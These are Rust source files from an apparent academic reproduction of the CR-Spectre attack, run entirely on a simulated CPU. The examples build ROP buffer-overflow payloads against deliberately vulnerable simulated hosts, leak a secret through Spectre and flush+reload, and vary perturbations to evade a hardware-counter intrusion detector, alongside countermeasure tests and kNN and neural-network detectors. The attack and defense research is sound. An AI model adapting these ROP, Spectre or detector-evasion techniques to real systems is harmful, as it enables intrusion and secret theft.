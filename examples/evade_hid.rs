//! The defense-aware loop of Figure 3: an online-learning HID versus
//! dynamically perturbed CR-Spectre, narrated attempt by attempt.
//!
//! ```sh
//! cargo run --release --example evade_hid
//! ```

use cr_spectre::campaign::{
    build_training_data, profile_standalone, CampaignConfig, NoiseModel,
};
use cr_spectre::attack::{run_cr_spectre, AttackConfig};
use cr_spectre::hid::detector::{Hid, HidKind, HidMode};
use cr_spectre::hpc::dataset::Label;
use cr_spectre::hpc::features::FeatureSet;
use cr_spectre::workloads::benign::BenignApp;
use cr_spectre::workloads::mibench::Mibench;
use cr_spectre::VariantGenerator;

fn main() {
    let cfg = CampaignConfig { attempts: 6, ..CampaignConfig::default() };
    let features = FeatureSet::paper_default();

    println!("== training the online MLP HID on benign apps vs standalone Spectre ==");
    let mut training = build_training_data(&cfg, &Mibench::FIG4_HOSTS, &features);
    let noise = NoiseModel::fit(&training.x, cfg.noise_strength);
    noise.apply(&mut training.x, cfg.seed, 1);
    let mut hid = Hid::train(HidKind::Mlp, HidMode::Online, training);
    println!("corpus: {} windows, features: {:?}\n", hid.corpus_len(), features.events());

    let mut generator = VariantGenerator::new(cfg.seed);
    // Start with the paper's loud Algorithm-2 defaults so the full
    // detect → mutate → evade loop is visible.
    let mut variant = cr_spectre::PerturbParams::paper_default();
    let _ = generator.next_variant();
    for attempt in 1..=cfg.attempts {
        let attack = AttackConfig::new(Mibench::Sha1).with_perturb(variant);
        let outcome = run_cr_spectre(&attack).expect("attack launches");
        let mut rows = outcome.attack_rows(&features);
        noise.apply(&mut rows, cfg.seed, 100 + attempt as u64);
        let rate = hid.detection_rate(&rows);
        let verdict = if Hid::detected(rate) {
            "DETECTED — attacker mutates the perturbation"
        } else if Hid::evaded(rate) {
            "evaded (< 55%)"
        } else {
            "suspicious — human inspects, attacker mutates"
        };
        println!(
            "attempt {attempt}: variant #{:<2} (camouflage {:?}, delay {:>5})  \
             secret leak {:>5.1}%  detection {:>5.1}%  → {verdict}",
            generator.generation(),
            variant.camouflage,
            variant.delay,
            outcome.leak_accuracy() * 100.0,
            rate * 100.0,
        );
        // Defender side: label what it can, retrain.
        if Hid::evaded(rate) {
            hid.ingest_self_labeled(&rows);
        } else {
            hid.ingest(&rows, Label::Attack);
        }
        let benign = profile_standalone(&cfg.machine, &BenignApp::Browser.image(), 2_000);
        hid.ingest(&benign.feature_rows(features.events()), Label::Benign);
        hid.retrain();
        // Attacker side: adapt when not comfortably evading.
        if !Hid::evaded(rate) {
            variant = generator.next_variant();
        }
    }
    println!("\nThe secret leaks on every attempt; the HID never holds detection");
    println!("above the paper's 80% bar for long — the moving-target property.");
}

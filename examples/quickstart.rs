//! Quickstart: leak a secret with simulated Spectre v1.
//!
//! Builds a victim application carrying a secret, generates the Spectre
//! attack binary, runs it on the simulated speculative CPU, and prints
//! the bytes recovered over the flush+reload covert channel.
//!
//! ```sh
//! cargo run --release --example quickstart
//! ```

use cr_spectre::attack::{run_standalone_spectre, AttackConfig};
use cr_spectre::sim::pmu::HpcEvent;
use cr_spectre::workloads::host::SECRET;
use cr_spectre::workloads::mibench::Mibench;

fn main() {
    println!("== CR-Spectre quickstart: standalone Spectre v1 ==\n");
    let config = AttackConfig::new(Mibench::Sha1);
    println!("victim host      : {}", config.host.display_name());
    println!("secret in memory : {:?}", String::from_utf8_lossy(SECRET));
    println!("running the attack on the simulated speculative CPU...\n");

    let outcome = run_standalone_spectre(&config);

    println!("recovered        : {:?}", String::from_utf8_lossy(&outcome.recovered));
    println!("leak accuracy    : {:.1}%", outcome.leak_accuracy() * 100.0);
    println!("profiled windows : {}", outcome.trace.len());
    let total_mispredicts: u64 = outcome
        .trace
        .samples
        .iter()
        .map(|s| s.count(HpcEvent::BranchMispredicts))
        .sum();
    let total_flushes: u64 = outcome
        .trace
        .samples
        .iter()
        .map(|s| s.count(HpcEvent::Flushes))
        .sum();
    println!("mispredicts      : {total_mispredicts} (mistraining + bounds-check bypass)");
    println!("clflushes        : {total_flushes} (covert-channel resets)");
    assert_eq!(outcome.recovered, SECRET, "the simulated Spectre must leak perfectly");
    println!("\nThe bounds check was speculatively bypassed; squashed loads left");
    println!("the secret-indexed probe lines in the cache, and RDTSC timing read");
    println!("them back. See examples/rop_injection.rs for the CR-Spectre launch.");
}

//! Bring-your-own victim: write a vulnerable host in **text assembly**,
//! assemble it, inspect it with the disassembler, and run the whole ROP +
//! Spectre pipeline against it — the attack is "not bound to host
//! application" (§II-C).
//!
//! ```sh
//! cargo run --release --example custom_victim
//! ```

use cr_spectre::asm::parser::parse;
use cr_spectre::asm::runtime::add_runtime;
use cr_spectre::rop::exploit::probe_ret_offset;
use cr_spectre::rop::{Chain, PayloadBuilder, Scanner};
use cr_spectre::sim::config::MachineConfig;
use cr_spectre::sim::cpu::Machine;
use cr_spectre::sim::disasm::context_around;
use cr_spectre::sim::isa::Reg;
use cr_spectre::spectre::{build_spectre_image, SpectreConfig};
use cr_spectre::workloads::host::SECRET;

/// A little log-processing daemon with a classic Algorithm-1 flaw: it
/// copies its argument into a fixed "line buffer" with the caller-provided
/// length, then tallies bytes.
const VICTIM_SOURCE: &str = r#"
main:
    call parse_request          ; exploited_function(argv[1])
resume_point:
    ldi  r1, 0                  ; victim code line 2...: tally the buffer
    ldi  r2, 0
tally:
    la   r4, linebuf
    add  r4, r4, r1
    ldb  r5, [r4]
    add  r2, r2, r5
    addi r1, r1, 1
    ldi  r6, 64
    bltu r1, r6, tally
    mov  r11, r2                ; result register
    halt

parse_request:
    subi sp, sp, 72             ; char buffer[72];
    mov  r3, r2                 ; memcpy(buffer, arg, arg_len) -- no check
    mov  r2, r1
    mov  r1, sp
    call memcpy
    addi sp, sp, 72
    ret

.data
linebuf: .space 64
secret:  .asciz "The Magic Words are Squeamish Ossifrage."
"#;

fn main() {
    println!("== custom text-assembly victim, attacked end to end ==\n");

    // 1. Assemble the source and link the runtime (gadget supply).
    let mut asm = parse(VICTIM_SOURCE).expect("victim assembles");
    add_runtime(&mut asm);
    let image = asm.build("logd").expect("links");
    println!("[1] assembled `{}`: {} bytes of text", image.name, image.segments[0].bytes.len());

    let mut machine = Machine::new(MachineConfig::default());
    let loaded = machine.load(&image).expect("loads");

    // 2. Disassemble the vulnerable function for the reader.
    println!("\n[2] the flaw, disassembled:");
    print!("{}", context_around(&machine, &loaded, loaded.addr("parse_request"), 3));

    // 3. Probe the frame, scan gadgets, build the payload.
    let offset = probe_ret_offset(&machine, loaded.entry, 256).expect("vulnerable");
    println!("[3] return address sits {offset} bytes into the buffer (expected 72)");
    let secret_addr = loaded.addr("secret");
    machine.register_image(build_spectre_image(&SpectreConfig::new(
        secret_addr,
        SECRET.len() as u32,
    )));
    let gadgets = Scanner::default().scan_image(&machine, &loaded);
    let buffer_addr = machine.initial_sp() - 8 - offset as u64;
    let name_addr = buffer_addr + offset as u64 + 4 * 8;
    let mut chain = Chain::new(&gadgets);
    chain.set_reg(Reg::R1, name_addr).expect("pop r1");
    chain.invoke(loaded.addr("sys_exec"));
    chain.resume(loaded.addr("resume_point"));
    let mut payload = PayloadBuilder::new(offset).build(chain.words());
    payload.extend_from_slice(b"spectre\0");

    // 4. Deliver; the daemon is hijacked, leaks, and resumes its tally.
    machine.start_with_arg(loaded.entry, &payload);
    let outcome = machine.run();
    let recovered = machine.take_stdout();
    println!("\n[4] run finished: {:?}", outcome.exit);
    println!("    daemon tally (r11) = {} (the service still works)", machine.reg(Reg::R11));
    println!("    stolen secret: {:?}", String::from_utf8_lossy(&recovered));
    assert_eq!(recovered, SECRET);
    assert!(outcome.exit.is_clean());
}

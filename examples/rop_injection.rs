//! The CR launch vector: hijack a benign MiBench host with a
//! buffer-overflow ROP chain and inject the Spectre binary (Figure 1 /
//! Listing 1 of the paper).
//!
//! Shows each stage explicitly: gadget harvest, frame-offset discovery by
//! crash probing, payload layout, delivery, and the stealthy resume of
//! the host after the secret is gone.
//!
//! ```sh
//! cargo run --release --example rop_injection
//! ```

use cr_spectre::rop::exploit::probe_ret_offset;
use cr_spectre::rop::{Chain, PayloadBuilder, Scanner};
use cr_spectre::sim::config::MachineConfig;
use cr_spectre::sim::cpu::Machine;
use cr_spectre::sim::isa::Reg;
use cr_spectre::spectre::{build_spectre_image, SpectreConfig};
use cr_spectre::workloads::host::{vulnerable_host, HostOptions, SECRET, SECRET_SYMBOL};
use cr_spectre::workloads::mibench::Mibench;

fn main() {
    println!("== ROP-injected CR-Spectre, stage by stage ==\n");

    // 1. The victim: an Algorithm-1 host around bitcount.
    let host = vulnerable_host(Mibench::Bitcount50M, HostOptions::default());
    let mut machine = Machine::new(MachineConfig::default());
    let loaded = machine.load(&host.image).expect("host loads");
    println!("[1] host `{}` loaded at {:#x} (DEP on: stack is non-executable)", host.image.name, loaded.base);

    // 2. Register the attack binary the chain will exec.
    let secret_addr = loaded.addr(SECRET_SYMBOL);
    machine.register_image(build_spectre_image(&SpectreConfig::new(
        secret_addr,
        SECRET.len() as u32,
    )));
    println!("[2] spectre binary registered; secret known to be at {secret_addr:#x}");

    // 3. GDB-style gadget hunt over the host's executable pages.
    let gadgets = Scanner::default().scan_image(&machine, &loaded);
    println!("[3] gadget scan: {} RET-terminated sequences, e.g.:", gadgets.len());
    for gadget in gadgets.iter().take(4) {
        println!("      {gadget}");
    }

    // 4. Find the buffer→return-address offset by crash probing.
    let offset = probe_ret_offset(&machine, loaded.entry, 256).expect("host is vulnerable");
    println!("[4] cyclic-pattern probe: return address {offset} bytes into the buffer");

    // 5. Build the Listing-1 payload: padding + chain + binary name.
    let buffer_addr = machine.initial_sp() - 8 - u64::from(host.frame_size);
    let name_addr = buffer_addr + offset as u64 + 4 * 8;
    let mut chain = Chain::new(&gadgets);
    chain.set_reg(Reg::R1, name_addr).expect("pop r1 gadget");
    chain.invoke(loaded.addr("sys_exec"));
    chain.resume(loaded.addr("host_continues"));
    let mut payload = PayloadBuilder::new(offset).build(chain.words());
    payload.extend_from_slice(b"spectre\0");
    println!(
        "[5] payload: {} bytes = {} padding + {} chain words + name string",
        payload.len(),
        offset,
        chain.words().len()
    );

    // 6. Deliver as argv[1] and run.
    machine.start_with_arg(loaded.entry, &payload);
    let outcome = machine.run();
    let recovered = machine.take_stdout();
    println!("[6] host run finished: {:?}", outcome.exit);
    println!("    injections: {:?} (cycle spans)", machine.injection_spans());
    println!("    host workload checksum r11 = {:#x} (host resumed and computed correctly:",
        machine.reg(Reg::R11));
    println!("    expected {:#x})", Mibench::Bitcount50M.expected_checksum());
    println!("\nstolen secret: {:?}", String::from_utf8_lossy(&recovered));
    assert_eq!(recovered, SECRET);
    assert_eq!(machine.reg(Reg::R11), Mibench::Bitcount50M.expected_checksum());
}

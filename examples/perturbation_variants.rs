//! Algorithm 2 under the microscope: how perturbation parameters shape
//! the HPC fingerprint of the very same Spectre attack.
//!
//! Sweeps loop counts, delays and camouflage shapes and prints the
//! per-window feature profile each variant produces.
//!
//! ```sh
//! cargo run --release --example perturbation_variants
//! ```

use cr_spectre::attack::{run_standalone_spectre, AttackConfig};
use cr_spectre::perturb::{Camouflage, PerturbParams};
use cr_spectre::sim::pmu::HpcEvent;
use cr_spectre::workloads::mibench::Mibench;

fn profile_of(perturb: Option<PerturbParams>) -> (f64, f64, f64, f64, usize) {
    let mut config = AttackConfig::new(Mibench::Bitcount50M);
    config.perturb = perturb;
    let outcome = run_standalone_spectre(&config);
    let n = outcome.trace.len().max(1) as f64;
    let mean = |e: HpcEvent| {
        outcome.trace.samples.iter().map(|s| s.count(e) as f64).sum::<f64>() / n
    };
    assert!(outcome.leak_accuracy() > 0.99, "perturbation must not break the leak");
    (
        mean(HpcEvent::TotalCacheMiss),
        mean(HpcEvent::BranchMispredicts),
        mean(HpcEvent::TotalCacheAccess),
        mean(HpcEvent::BranchInstrs),
        outcome.trace.len(),
    )
}

fn main() {
    println!("== Algorithm-2 variants: per-window HPC fingerprints ==\n");
    println!(
        "{:<34}{:>10}{:>10}{:>10}{:>10}{:>9}",
        "variant", "miss/win", "misp/win", "acc/win", "br/win", "windows"
    );

    let show = |name: &str, p: Option<PerturbParams>| {
        let (miss, misp, acc, br, windows) = profile_of(p);
        println!("{name:<34}{miss:>10.2}{misp:>10.2}{acc:>10.1}{br:>10.1}{windows:>9}");
    };

    show("no perturbation (plain Spectre)", None);
    show("Algorithm 2 defaults (a=11,b=6)", Some(PerturbParams::paper_default()));
    show(
        "loop_count 40",
        Some(PerturbParams { loop_count: 40, ..PerturbParams::paper_default() }),
    );
    show("dispersal delay 2500", Some(PerturbParams::evasive_default()));
    for camouflage in [Camouflage::Copy, Camouflage::Hash, Camouflage::Scan] {
        show(
            &format!("delay 2500 + camouflage {camouflage:?}"),
            Some(PerturbParams { camouflage, ..PerturbParams::evasive_default() }),
        );
    }

    println!("\nEvery variant still leaks the secret perfectly; what changes is");
    println!("the per-window counter profile the HID sees — the paper's 'each");
    println!("generated variant producing a different HPC pattern'.");
}

//! Countermeasures (§IV of the paper) exercised against the attack:
//!
//! * DEP — blocks classic shellcode injection (why ROP exists);
//! * stack canaries — stop the overflow unless the canary leaks;
//! * disabling unprivileged `CLFLUSH` — kills Algorithm 2 *and* the
//!   flush+reload channel;
//! * a shadow stack — faults on the manipulated return address.
//!
//! ```sh
//! cargo run --release --example defenses
//! ```

use cr_spectre::attack::{run_cr_spectre, AttackConfig};
use cr_spectre::sim::config::MachineConfig;
use cr_spectre::sim::error::{ExitReason, Fault};
use cr_spectre::workloads::host::SECRET;
use cr_spectre::workloads::mibench::Mibench;

fn attempt(name: &str, config: AttackConfig) {
    match run_cr_spectre(&config) {
        Ok(outcome) => {
            let stolen = outcome.leak_accuracy() > 0.9;
            let exit = &outcome.trace.outcome.exit;
            let status = match (stolen, exit) {
                (true, _) => "SECRET STOLEN".to_string(),
                (false, ExitReason::Fault(f)) => format!("attack killed: {f}"),
                (false, _) => "attack ran but leaked nothing".to_string(),
            };
            println!("{name:<44} {status}");
        }
        Err(err) => println!("{name:<44} attack not even launchable: {err}"),
    }
}

fn main() {
    println!("== CR-Spectre vs the paper's countermeasures ==\n");
    println!("target secret: {:?}\n", String::from_utf8_lossy(SECRET));

    // Baseline: default machine (DEP on, everything else off).
    attempt("baseline (DEP only)", AttackConfig::new(Mibench::Sha1));

    // Stack canary, adversary has leaked it (paper: canaries are
    // evadable). The payload restores the canary and wins anyway.
    let mut config = AttackConfig::new(Mibench::Sha1);
    config.host_options.canary = true;
    attempt("stack canary (leaked to the adversary)", config);

    // §IV: disable CLFLUSH for unprivileged code. The injected binary's
    // first covert-channel flush faults.
    let mut config = AttackConfig::new(Mibench::Sha1);
    config.machine.protect.clflush_enabled = false;
    attempt("clflush disabled for unprivileged code", config);

    // ...but the countermeasure only bans the *instruction*: an adaptive
    // attacker switches to eviction-based line resets (Evict+Reload)
    // and needs no clflush at all.
    let mut config = AttackConfig::new(Mibench::Sha1);
    config.machine.protect.clflush_enabled = false;
    config.covert = cr_spectre::covert::CovertConfig::evict_reload();
    attempt("clflush ban + Evict+Reload attacker", config);

    // §IV: shadow return stack. The very first hijacked RET faults.
    let mut config = AttackConfig::new(Mibench::Sha1);
    config.machine.protect.shadow_stack = true;
    attempt("shadow stack", config);

    // §I related work: InvisiSpec — the attack runs, but speculation
    // leaves no cache footprint and the channel decodes nothing.
    let mut config = AttackConfig::new(Mibench::Sha1);
    config.machine = MachineConfig::invisispec();
    attempt("InvisiSpec (invisible speculation)", config);

    // §I related work: Context-Sensitive Fencing — branches are fenced,
    // the transient path never executes.
    let mut config = AttackConfig::new(Mibench::Sha1);
    config.machine = MachineConfig::csf();
    attempt("Context-Sensitive Fencing", config);

    // Both §IV countermeasures at once.
    let mut config = AttackConfig::new(Mibench::Sha1);
    config.machine = MachineConfig::hardened();
    attempt("hardened machine (both countermeasures)", config);

    // Sanity: the shadow stack really faults with a ShadowStack error.
    let mut config = AttackConfig::new(Mibench::Sha1);
    config.machine.protect.shadow_stack = true;
    let outcome = run_cr_spectre(&config).expect("launches");
    assert!(matches!(
        outcome.trace.outcome.exit,
        ExitReason::Fault(Fault::ShadowStack { .. })
    ));
    assert!(outcome.recovered.is_empty());
    println!("\nThe shadow stack stops the launch vector outright, and the clflush ban");
    println!("stops this binary — but an Evict+Reload attacker sidesteps the ban,");
    println!("which is precisely the 'further analysis and verification' the paper's");
    println!("§IV calls for. Only the speculation-level defenses (InvisiSpec, CSF)");
    println!("close the channel itself.");
}

//! k-nearest-neighbours classifier — an instance-based [`Detector`]
//! family used by several counter-based anomaly detectors in the
//! literature the paper cites.
//!
//! The training set is stored as one contiguous [`Mat`], and prediction
//! selects the k smallest distances with [`slice::select_nth_unstable_by`]
//! (O(n) expected) instead of a full sort. Ties on distance break on the
//! original training index, so the selected neighbour set is exactly the
//! first k rows of a stable sort by distance — deterministic, and
//! unit-tested against that full-sort oracle below.

use crate::detector::Detector;
use crate::linalg::Mat;

/// k-NN over Euclidean distance. Stores the training set verbatim.
#[derive(Debug, Clone)]
pub struct Knn {
    /// Number of neighbours consulted (odd avoids ties).
    pub k: usize,
    x: Mat,
    y: Vec<u8>,
}

impl Knn {
    /// Creates an untrained k-NN with `k = 5`.
    pub fn new() -> Knn {
        Knn { k: 5, x: Mat::zeros(0, 0), y: Vec::new() }
    }

    /// Creates an untrained k-NN with a custom `k`.
    ///
    /// # Panics
    ///
    /// Panics when `k == 0`.
    pub fn with_k(k: usize) -> Knn {
        assert!(k > 0, "k must be nonzero");
        Knn { k, x: Mat::zeros(0, 0), y: Vec::new() }
    }

    fn distance2(a: &[f64], b: &[f64]) -> f64 {
        a.iter().zip(b).map(|(x, y)| (x - y) * (x - y)).sum()
    }

    /// Majority vote over the k nearest training rows, reusing `dists`
    /// as the selection buffer. Ties on distance break on the training
    /// index, matching a stable sort by distance.
    fn vote(&self, row: &[f64], dists: &mut Vec<(f64, u32)>) -> u8 {
        assert!(self.x.rows() > 0, "knn must be fitted before predict");
        let k = self.k.min(self.x.rows());
        dists.clear();
        dists.extend(
            self.x
                .iter_rows()
                .enumerate()
                .map(|(i, xi)| (Knn::distance2(row, xi), i as u32)),
        );
        // Partial selection of the k smallest (distance, index) pairs.
        dists.select_nth_unstable_by(k - 1, |a, b| {
            a.0.partial_cmp(&b.0).expect("finite distances").then(a.1.cmp(&b.1))
        });
        let attacks = dists[..k]
            .iter()
            .filter(|&&(_, i)| self.y[i as usize] == 1)
            .count();
        u8::from(attacks * 2 > k)
    }
}

impl Default for Knn {
    fn default() -> Knn {
        Knn::new()
    }
}

impl Detector for Knn {
    fn name(&self) -> &'static str {
        "kNN"
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        assert_eq!(x.len(), y.len(), "features/labels mismatch");
        assert!(!x.is_empty(), "cannot fit on no data");
        self.x = Mat::from_rows(x);
        self.y = y.to_vec();
    }

    fn fit_mat(&mut self, x: &Mat, y: &[u8]) {
        assert_eq!(x.rows(), y.len(), "features/labels mismatch");
        assert!(x.rows() > 0, "cannot fit on no data");
        self.x = x.clone();
        self.y = y.to_vec();
    }

    fn predict(&self, row: &[f64]) -> u8 {
        let mut dists = Vec::with_capacity(self.x.rows());
        self.vote(row, &mut dists)
    }

    /// Batch scoring that reuses one distance buffer across all query
    /// rows instead of allocating per prediction.
    fn predict_batch(&self, x: &Mat) -> Vec<u8> {
        let mut dists = Vec::with_capacity(self.x.rows());
        x.iter_rows().map(|row| self.vote(row, &mut dists)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::testdata::{blobs, xor_data};

    #[test]
    fn fits_blobs_and_xor() {
        let (x, y) = blobs(200, 3, 2.5, 41);
        let mut knn = Knn::new();
        knn.fit(&x, &y);
        assert!(knn.accuracy(&x, &y) > 0.95);

        let (x, y) = xor_data(300, 43);
        let mut knn = Knn::new();
        knn.fit(&x, &y);
        assert!(knn.accuracy(&x, &y) > 0.9, "kNN handles XOR locally");
    }

    #[test]
    fn k_one_memorizes_training_data() {
        let (x, y) = blobs(100, 2, 1.0, 47);
        let mut knn = Knn::with_k(1);
        knn.fit(&x, &y);
        assert!((knn.accuracy(&x, &y) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn k_larger_than_dataset_is_clamped() {
        let mut knn = Knn::with_k(99);
        knn.fit(&[vec![0.0], vec![10.0]], &[0, 1]);
        // With both neighbours voting, attacks*2 > k requires strict
        // majority — a tie votes benign.
        assert_eq!(knn.predict(&[5.0]), 0);
    }

    /// The old implementation: full stable sort by distance, vote over
    /// the first k. The selection path must agree with it on every
    /// query, including exact distance ties from duplicated points.
    fn full_sort_oracle(x: &[Vec<f64>], y: &[u8], k: usize, row: &[f64]) -> u8 {
        let k = k.min(x.len());
        let mut dists: Vec<(f64, u8)> = x
            .iter()
            .zip(y)
            .map(|(xi, &yi)| (Knn::distance2(row, xi), yi))
            .collect();
        dists.sort_by(|a, b| a.0.partial_cmp(&b.0).expect("finite distances"));
        let attacks = dists[..k].iter().filter(|(_, label)| *label == 1).count();
        u8::from(attacks * 2 > k)
    }

    #[test]
    fn selection_matches_full_sort_oracle() {
        let (mut x, mut y) = blobs(120, 2, 1.5, 53);
        // Inject exact duplicates with conflicting labels so distance
        // ties at the k boundary actually exercise the tie-break.
        for i in 0..20 {
            x.push(x[i].clone());
            y.push(1 - y[i]);
        }
        for k in [1, 3, 5, 7] {
            let mut knn = Knn::with_k(k);
            knn.fit(&x, &y);
            for row in &x {
                assert_eq!(
                    knn.predict(row),
                    full_sort_oracle(&x, &y, k, row),
                    "k={k}"
                );
            }
        }
    }

    #[test]
    fn batch_prediction_matches_per_row() {
        let (x, y) = blobs(90, 3, 1.0, 59);
        let mut knn = Knn::new();
        knn.fit(&x, &y);
        let batch = knn.predict_batch(&Mat::from_rows(&x));
        let per_row: Vec<u8> = x.iter().map(|r| knn.predict(r)).collect();
        assert_eq!(batch, per_row);
    }

    #[test]
    #[should_panic(expected = "k must be nonzero")]
    fn zero_k_panics() {
        let _ = Knn::with_k(0);
    }

    #[test]
    #[should_panic(expected = "fitted before predict")]
    fn predict_before_fit_panics() {
        let _ = Knn::new().predict(&[0.0]);
    }
}

//! k-nearest-neighbours classifier — an instance-based [`Detector`]
//! family used by several counter-based anomaly detectors in the
//! literature the paper cites.

use crate::detector::Detector;

/// k-NN over Euclidean distance. Stores the training set verbatim.
#[derive(Debug, Clone)]
pub struct Knn {
    /// Number of neighbours consulted (odd avoids ties).
    pub k: usize,
    x: Vec<Vec<f64>>,
    y: Vec<u8>,
}

impl Knn {
    /// Creates an untrained k-NN with `k = 5`.
    pub fn new() -> Knn {
        Knn { k: 5, x: Vec::new(), y: Vec::new() }
    }

    /// Creates an untrained k-NN with a custom `k`.
    ///
    /// # Panics
    ///
    /// Panics when `k == 0`.
    pub fn with_k(k: usize) -> Knn {
        assert!(k > 0, "k must be nonzero");
        Knn { k, x: Vec::new(), y: Vec::new() }
    }

    fn distance2(a: &[f64], b: &[f64]) -> f64 {
        a.iter().zip(b).map(|(x, y)| (x - y) * (x - y)).sum()
    }
}

impl Default for Knn {
    fn default() -> Knn {
        Knn::new()
    }
}

impl Detector for Knn {
    fn name(&self) -> &'static str {
        "kNN"
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        assert_eq!(x.len(), y.len(), "features/labels mismatch");
        assert!(!x.is_empty(), "cannot fit on no data");
        self.x = x.to_vec();
        self.y = y.to_vec();
    }

    fn predict(&self, row: &[f64]) -> u8 {
        assert!(!self.x.is_empty(), "knn must be fitted before predict");
        let k = self.k.min(self.x.len());
        // Partial selection of the k smallest distances.
        let mut dists: Vec<(f64, u8)> = self
            .x
            .iter()
            .zip(&self.y)
            .map(|(xi, &yi)| (Knn::distance2(row, xi), yi))
            .collect();
        dists.select_nth_unstable_by(k - 1, |a, b| {
            a.0.partial_cmp(&b.0).expect("finite distances")
        });
        let attacks = dists[..k].iter().filter(|(_, label)| *label == 1).count();
        u8::from(attacks * 2 > k)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::testdata::{blobs, xor_data};

    #[test]
    fn fits_blobs_and_xor() {
        let (x, y) = blobs(200, 3, 2.5, 41);
        let mut knn = Knn::new();
        knn.fit(&x, &y);
        assert!(knn.accuracy(&x, &y) > 0.95);

        let (x, y) = xor_data(300, 43);
        let mut knn = Knn::new();
        knn.fit(&x, &y);
        assert!(knn.accuracy(&x, &y) > 0.9, "kNN handles XOR locally");
    }

    #[test]
    fn k_one_memorizes_training_data() {
        let (x, y) = blobs(100, 2, 1.0, 47);
        let mut knn = Knn::with_k(1);
        knn.fit(&x, &y);
        assert!((knn.accuracy(&x, &y) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn k_larger_than_dataset_is_clamped() {
        let mut knn = Knn::with_k(99);
        knn.fit(&[vec![0.0], vec![10.0]], &[0, 1]);
        // With both neighbours voting, attacks*2 > k requires strict
        // majority — a tie votes benign.
        assert_eq!(knn.predict(&[5.0]), 0);
    }

    #[test]
    #[should_panic(expected = "k must be nonzero")]
    fn zero_k_panics() {
        let _ = Knn::with_k(0);
    }

    #[test]
    #[should_panic(expected = "fitted before predict")]
    fn predict_before_fit_panics() {
        let _ = Knn::new().predict(&[0.0]);
    }
}

//! Dense feed-forward networks: the paper's "MLP (Sklearn)" 3-layer
//! classifier and the "NN (TensorFlow)" 6-layer ReLU network, both
//! implemented from scratch with backpropagation.
//!
//! The implementation runs on the flat math core of [`crate::linalg`]:
//! each layer's weights are one row-major [`Mat`] (`weights[l]` row `j`
//! is output unit `j`'s fan-in), training reuses a [`Scratch`]-backed
//! set of activation/gradient buffers so no epoch allocates, and
//! [`DenseNet::predict_batch`] forwards the whole batch through
//! [`gemm_nt`]. Every dot product keeps the seed implementation's inner
//! k-order, so weights and predictions are bit-identical to the jagged
//! `Vec<Vec<Vec<f64>>>` original (kept as
//! [`crate::reference::RefDenseNet`] and locked by
//! `tests/fastmath_equivalence.rs`).

use cr_spectre_telemetry as telemetry;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

use crate::detector::Detector;
use crate::linalg::{dot, gemm_nt, relu, relu_grad, sigmoid, Mat, Scratch};

/// A dense network with ReLU hidden layers and a single sigmoid output,
/// trained with per-sample SGD on binary cross-entropy.
#[derive(Debug, Clone)]
pub struct DenseNet {
    name: &'static str,
    hidden: Vec<usize>,
    /// `weights[l]` is the `sizes[l+1] × sizes[l]` matrix of layer `l`:
    /// row `j` holds output unit `j`'s incoming weights.
    weights: Vec<Mat>,
    biases: Vec<Vec<f64>>,
    /// Learning rate.
    pub learning_rate: f64,
    /// Full passes over the training data.
    pub epochs: usize,
    /// Initialization/shuffling seed.
    pub seed: u64,
}

/// Preallocated per-fit working set: activations, pre-activations and
/// the two delta buffers, all drawn from one [`Scratch`] arena up
/// front so the per-sample loop never allocates.
struct NetScratch {
    /// `acts[0]` is the input copy; `acts[l + 1]` layer `l`'s output.
    acts: Vec<Vec<f64>>,
    /// `zs[l]` is layer `l`'s pre-activation.
    zs: Vec<Vec<f64>>,
    delta: Vec<f64>,
    prev_delta: Vec<f64>,
}

impl NetScratch {
    fn for_sizes(sizes: &[usize]) -> NetScratch {
        let mut arena = Scratch::new();
        let widest = sizes.iter().copied().max().unwrap_or(0);
        NetScratch {
            acts: sizes.iter().map(|&n| arena.take(n)).collect(),
            zs: sizes[1..].iter().map(|&n| arena.take(n)).collect(),
            delta: arena.take(widest),
            prev_delta: arena.take(widest),
        }
    }
}

impl DenseNet {
    /// A network with the given hidden-layer widths.
    pub fn new(name: &'static str, hidden: Vec<usize>) -> DenseNet {
        assert!(!hidden.is_empty(), "need at least one hidden layer");
        DenseNet {
            name,
            hidden,
            weights: Vec::new(),
            biases: Vec::new(),
            learning_rate: 0.02,
            epochs: 80,
            seed: 31,
        }
    }

    /// The paper's 3-layer MLP (input → two hidden ReLU layers → output).
    pub fn mlp() -> DenseNet {
        DenseNet::new("MLP", vec![24, 12])
    }

    /// The paper's 6-layer ReLU network (five hidden layers → output).
    pub fn nn6() -> DenseNet {
        DenseNet::new("NN", vec![32, 24, 16, 12, 8])
    }

    /// Layer sizes including input and output: `[input, hidden..., 1]`.
    fn sizes(&self, input_dim: usize) -> Vec<usize> {
        let mut sizes = vec![input_dim];
        sizes.extend_from_slice(&self.hidden);
        sizes.push(1);
        sizes
    }

    /// The trained weight matrices, one per layer (diagnostics and the
    /// equivalence suite).
    pub fn layers(&self) -> &[Mat] {
        &self.weights
    }

    /// The trained bias vectors, one per layer.
    pub fn layer_biases(&self) -> &[Vec<f64>] {
        &self.biases
    }

    fn init(&mut self, input_dim: usize) {
        let mut rng = StdRng::seed_from_u64(self.seed);
        let sizes = self.sizes(input_dim);
        self.weights.clear();
        self.biases.clear();
        for l in 0..sizes.len() - 1 {
            let fan_in = sizes[l] as f64;
            let bound = (2.0 / fan_in).sqrt();
            // Draw in the seed's (j-major, i-minor) order — exactly the
            // row-major fill of the flat layer matrix.
            let mut layer = Mat::zeros(sizes[l + 1], sizes[l]);
            for v in layer.as_mut_slice() {
                *v = rng.random_range(-bound..bound);
            }
            self.weights.push(layer);
            self.biases.push(vec![0.0; sizes[l + 1]]);
        }
    }

    /// Forward pass for one row into the scratch buffers.
    fn forward_scratch(&self, row: &[f64], s: &mut NetScratch) {
        let layers = self.weights.len();
        s.acts[0].copy_from_slice(row);
        for l in 0..layers {
            let (w, b) = (&self.weights[l], &self.biases[l]);
            let (input, output) = {
                let (lo, hi) = s.acts.split_at_mut(l + 1);
                (&lo[l], &mut hi[0])
            };
            let z = &mut s.zs[l];
            for j in 0..w.rows() {
                z[j] = dot(w.row(j), input) + b[j];
            }
            if l == layers - 1 {
